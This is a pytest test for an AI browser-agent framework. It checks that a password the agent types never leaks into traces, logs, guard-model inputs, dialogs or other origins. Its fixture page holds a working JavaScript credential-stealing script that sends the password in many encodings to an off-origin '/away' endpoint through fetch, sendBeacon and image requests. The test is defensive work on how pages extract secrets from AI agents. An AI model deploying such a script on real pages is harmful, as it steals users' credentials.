"""No value of a secret comes out of a run, whatever the page does with it: in no event, trace, log, error, question or
text for a model, raw or in a common encoding, and at no origin that it is not for (I12)."""

from __future__ import annotations

import logging
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import anyio
import pytest
from tests.loop.stage import Scripted, click, on

from handrail.approvers import CallbackApprover
from handrail.clock import RealClock
from handrail.devices.browser import BrowserConfig, BrowserDevice
from handrail.devices.browser.confidential import Confidential, encodings
from handrail.devices.fake import FixedSecrets
from handrail.guard import PolicyGate, RuntimeGuardrail
from handrail.loop import House, Limits, open_run
from handrail.policy import preset
from handrail.records import (
    Answer,
    AnswerDialog,
    Event,
    Finish,
    Instruction,
    Observation,
    Proposal,
    RunKey,
    Secret,
    SecretRef,
    TypeText,
)
from handrail.trace import TraceStore
from handrail.wire import to_json

PAGE = """<!doctype html><meta charset=utf-8><title>Door</title>
<form action=/in method=post><input id=f type=password aria-label=Code></form>
<input id=n aria-label=Note><button onclick="confirm('Is it '+f.value+' or '+btoa(enc(f.value))+'?');o.hidden=false">Go
</button><div id=o></div><script>
const enc = v => unescape(encodeURIComponent(v)), away = 'http://localhost:' + location.port + '/away';
const add = (tag, set) => set(o.appendChild(document.createElement(tag)));
const ways = v => [v, encodeURIComponent(v), JSON.stringify(v), btoa(enc(v)), btoa(enc('x' + v + 'y')),
  btoa(enc('xx' + v)), btoa(enc(v)).replaceAll('+', '-').replaceAll('/', '_'), new URLSearchParams({v}).toString(),
  Array.from(new TextEncoder().encode(v), b => b.toString(16).padStart(2, '0')).join('')];
f.oninput = () => {
  for (const w of ways(f.value)) {
    add('p', e => e.textContent = 'It is ' + w + ' today');
    add('button', e => { e.textContent = 'B'; e.title = w; e.setAttribute('aria-label', w); });
    add('input', e => { e.value = w; e.placeholder = w; });
    add('a', e => { e.href = '/x?q=' + w; e.textContent = 'a link'; });
    new Image().src = away + '?i=' + w;
    fetch(away + '?f=' + encodeURIComponent(w)).catch(() => 1);
    fetch('/own?' + encodeURIComponent(w), {method: 'POST', body: w}).catch(() => 1);
    navigator.sendBeacon(away, w);
    console.log(w);
  }
  document.title = f.value; history.replaceState(0, '', '?' + encodeURIComponent(f.value));
  setTimeout(() => { throw new Error(f.value); });
};
</script>"""
VALUES = ("s3cret&Value/42", 'say "no" \\ Ünïcode?')
LIMITS = Limits(settle=1.0, late=1.0, seconds=60.0)


@dataclass
class Everything:
    """All that came out of a run."""

    texts: list[str] = field(default_factory=list)

    @property
    def categories(self) -> frozenset[str]:
        return frozenset({"jailbreak", "topic", "bank_intent", "injection", "sensitive"})

    async def score(self, text: str, category: str) -> float:
        """As a guard model: what it would read."""
        self.texts.append(text)
        return 0.0

    async def write(self, event: Event, *, durable: bool) -> None:
        """As a sink."""
        self.texts += [repr(event), to_json(event).decode()]

    def says(self, look: Observation) -> Proposal:
        """As a proposer that tells all that it sees."""
        shown = [text for item in look.elements for text in (item.name, item.value, item.own_text)]
        self.texts.append(repr(replace(look, image=None)))
        return Proposal(Answer(" ".join(shown)))


@contextmanager
def served() -> Iterator[tuple[int, list[str]]]:
    """A page, and what was asked of its server under the name of another site."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length", 0)))
            if self.headers.get("host", "").startswith("localhost"):
                asked.append(f"{self.path} {body!r}")
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(PAGE.encode())

        do_POST = do_GET  # noqa: N815 - the server looks for this name

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - the name of the base class
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield server.server_port, asked
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


async def played(folder: Path, port: int, value: str) -> Everything:
    """A run that gives the secret to the page, presses on, answers a dialog and tells all that it sees."""
    origin, out = f"http://127.0.0.1:{port}", Everything()
    secrets = FixedSecrets({"pw": Secret(frozenset({origin}), value)})
    instruction = Instruction(f"go to {origin}/ and log in with {{{{secret:pw}}}}", secrets=frozenset({"pw"}))
    policy, key = preset("standard"), RunKey.fresh("r1")
    gate = PolicyGate(policy, instruction, start=origin)
    clock = RealClock()
    async with BrowserDevice(BrowserConfig(home=folder), clock) as device:
        device.arm(key, gate, secrets)
        guard = RuntimeGuardrail(
            policy, key=key, device=device.id, models=out.categories, protections=device.protections, start=origin,
            secrets={"pw": frozenset({origin})},
        )  # fmt: skip
        with TraceStore(folder / "trace.db") as store:
            trace = store.open_run(key.run)

            class Both:
                async def write(self, event: Event, *, durable: bool) -> None:
                    await trace.write(event, durable=durable)
                    await out.write(event, durable=durable)

            says = [
                lambda look: Proposal(TypeText(on(look, "Code"), SecretRef("pw"))),
                out.says,
                lambda look: Proposal(TypeText(on(look, "Note"), "hello")),
                click("Go"),
                out.says,
                lambda look: Proposal(AnswerDialog(True)),
                out.says,
                lambda look: Proposal(TypeText(on(look, "Nothing of this name"), "x")),
                lambda look: Proposal(Finish(True)),
            ]
            house = House(
                device, policy, guard, gate, key, CallbackApprover(lambda question: True), clock, Both(), secrets,
                models=out,
            )  # fmt: skip
            proposer = Scripted(says, trusted_labels=False, stubborn=True)  # type: ignore[arg-type]
            async with open_run(house, instruction, proposer, f"{origin}/", limits=LIMITS) as run:
                async for _ in run:
                    pass
                out.texts += [repr(await run.result()), repr(proposer.heard)]
    return out


@pytest.mark.parametrize("value", VALUES)
def test_no_secret_comes_out_of_a_run(tmp_path: Path, value: str, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    with served() as (port, arrived):
        out = anyio.run(played, tmp_path, port, value)
    kept = (tmp_path / "trace.db").read_bytes().decode("latin-1")
    texts = [*out.texts, caplog.text, kept, *arrived]
    words = {word for word in encodings(value) if len(word) > 5}
    assert [text for text in texts if any(word in text for word in words)] == []
    assert [line for line in arrived if "/away" in line] == []
    held = Confidential()
    held.learn(FixedSecrets({"pw": Secret(frozenset(), value)}))
    assert held.carried(out.texts) == ()
    assert "Is it" in "".join(out.texts), "the dialog was seen"
    assert "carries" in "".join(out.texts)
